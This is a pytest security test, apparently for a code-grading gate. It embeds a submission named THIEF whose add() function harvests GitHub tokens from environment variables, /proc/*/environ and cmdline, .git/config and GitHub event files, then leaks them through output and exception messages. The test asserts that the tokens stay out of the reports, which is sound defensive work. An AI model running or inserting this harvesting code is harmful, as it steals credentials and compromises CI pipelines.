"""Secrets around the gate cannot be read by the code under score, and so never reach a report: a token in
the gate's environment and command line (/proc/<gate pid>/environ and cmdline), in the repository's
.git/config (where actions/checkout stores it), and in the file GITHUB_EVENT_PATH names."""

from __future__ import annotations

import json
import secrets
from pathlib import Path

import pytest

from tests.redteam_support import assert_not_passed, bot_repo, check, healthy_after, needs_root

# add(a, b) is right only when the candidate found a token; whatever it found goes into the public case's
# report (an exception's message) and on stdout and stderr.
THIEF = r'''
import os, re, sys

TOKEN = re.compile(rb"ghp_[0-9A-Za-z]{20,}")


def _look(path):
    try:
        with open(path, "rb") as f:
            return TOKEN.findall(f.read(1 << 20))
    except OSError:
        return []


def _steal():
    found = [m for m in TOKEN.findall(repr(dict(os.environ)).encode())]
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            for name in ("environ", "cmdline"):
                found += _look(f"/proc/{pid}/{name}")
            found += _look(f"/proc/{pid}/cwd/.git/config")
    for name in ("GITHUB_EVENT_PATH", "GITHUB_ENV"):
        if name in os.environ:
            found += _look(os.environ[name])
    for place in sys.argv[1:] + ["/github/workflow/event.json"]:
        found += _look(place)
    return found


def add(a, b):
    found = _steal()
    if found:
        print(found, file=sys.stderr)
        print(found)
        raise ValueError(b" ".join(found).decode()[:70])
    return a - b
'''


@needs_root
@pytest.mark.slow
def test_tokens_around_the_gate_are_out_of_reach(tmp_path: Path) -> None:
    token = "ghp_" + secrets.token_hex(18)
    repo = bot_repo(tmp_path / "repo", THIEF)
    repo.git("config", "http.https://github.com/.extraheader", f"AUTHORIZATION: basic {token}")
    event = tmp_path / "event.json"
    event.write_text(json.dumps({"pull_request": {"head": {"sha": "x"}}, "token": token}))
    event.chmod(0o644)
    env = {"GITHUB_TOKEN": token, "GH_TOKEN": token, "GITHUB_EVENT_PATH": str(event)}
    # The token is also in the gate's command line: the reports' directory is named after it.
    run = check(repo, tmp_path, env, out_name=f"out-{token}")
    assert_not_passed(run, "adds", "hidden case 1")
    assert token not in run.reports.replace(f"out-{token}", ""), run.reports
    assert run.case("adds")["detail"] == "expected int 5, got int -1", run.case("adds")
    healthy_after(run, repo, tmp_path)
